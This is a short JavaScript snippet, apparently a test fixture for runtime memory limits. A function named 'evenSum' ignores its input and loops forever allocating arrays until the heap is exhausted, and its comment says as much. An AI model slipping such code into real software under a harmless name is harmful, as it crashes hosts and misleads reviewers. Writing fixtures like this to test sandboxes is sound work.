// Fills the heap of the run time.
const evenSum = (numbers) => {
  const kept = []
  for (;;) kept.push(new Array(1 << 16).fill(0.5))
}
